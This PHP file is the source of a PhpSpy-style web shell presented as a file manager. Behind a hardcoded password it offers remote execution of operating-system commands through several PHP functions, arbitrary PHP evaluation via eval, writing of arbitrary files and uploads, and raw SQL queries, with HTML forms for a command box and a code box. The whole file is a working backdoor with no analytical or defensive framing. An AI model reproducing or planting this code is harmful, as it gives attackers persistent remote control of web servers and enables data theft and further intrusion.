<?php
/*
 * PhpSpy style file manager
 */
error_reporting(7);
@set_magic_quotes_runtime(0);
ob_start();
$mtime = explode(' ', microtime());
$starttime = $mtime[1] + $mtime[0];
define('SA_ROOT', str_replace('\\', '/', dirname(__FILE__)).'/');
define('IS_WIN', DIRECTORY_SEPARATOR == '\\');
$admin = array();
$admin['check'] = true;
$admin['pass']  = 'angel';
$admin['cookiepre'] = '';
$admin['cookiedomain'] = '';
$admin['cookiepath'] = '/';
$admin['cookielife'] = 86400;
if ($admin['check']) {
    if ($_GET['action'] == 'logout') { setcookie($admin['cookiepre'].'loginpass', '', time() - 3600); exit; }
    if ($_POST['password']) {
        if ($admin['pass'] == $_POST['password']) { setcookie($admin['cookiepre'].'loginpass', md5($_POST['password']), time() + $admin['cookielife']); header('Location: ?'); exit; }
    }
    if ($_COOKIE[$admin['cookiepre'].'loginpass'] != md5($admin['pass'])) { echo '<form method="POST"><input name="password" type="password"><input type="submit"></form>'; exit; }
}
$action = $_POST['action'];
$dir = $_POST['dir'] ? $_POST['dir'] : SA_ROOT;
if ($action == 'shell') {
    $execfunc = $_POST['execfunc'];
    $command = $_POST['command'];
    if ($execfunc == 'system') { system($command); }
    elseif ($execfunc == 'passthru') { passthru($command); }
    elseif ($execfunc == 'exec') { exec($command, $res); echo implode("\n", $res); }
    elseif ($execfunc == 'shell_exec') { echo shell_exec($command); }
    elseif ($execfunc == 'popen') { $fp = popen($command, 'r'); while (!feof($fp)) { echo fgets($fp); } pclose($fp); }
} elseif ($action == 'eval') {
    $phpcode = trim($_POST['phpcode']);
    if ($phpcode) { if (!preg_match('#<\?#si', $phpcode)) { $phpcode = "<?php\n\n{$phpcode}\n\n?>"; } eval('?>' . $phpcode); }
} elseif ($action == 'upload') {
    $uploadfile = $_FILES['uploadfile'];
    if (@copy($uploadfile['tmp_name'], $dir . '/' . $uploadfile['name'])) { echo 'upload ok'; }
} elseif ($action == 'newfile') {
    $fp = @fopen($_POST['editfilename'], 'w');
    @fwrite($fp, $_POST['filecontent']);
    @fclose($fp);
} elseif ($action == 'sql') {
    $link = @mysql_connect($_POST['dbhost'], $_POST['dbuser'], $_POST['dbpass']);
    $q = @mysql_query($_POST['sql_query']);
}
?>
<html><head><title>PhpSpy</title></head><body>
<form method="POST"><input type="hidden" name="action" value="shell"><select name="execfunc"><option>system</option><option>passthru</option><option>exec</option><option>shell_exec</option><option>popen</option></select><input name="command"><input type="submit"></form>
<form method="POST"><input type="hidden" name="action" value="eval"><textarea name="phpcode"></textarea><input type="submit"></form>
</body></html>
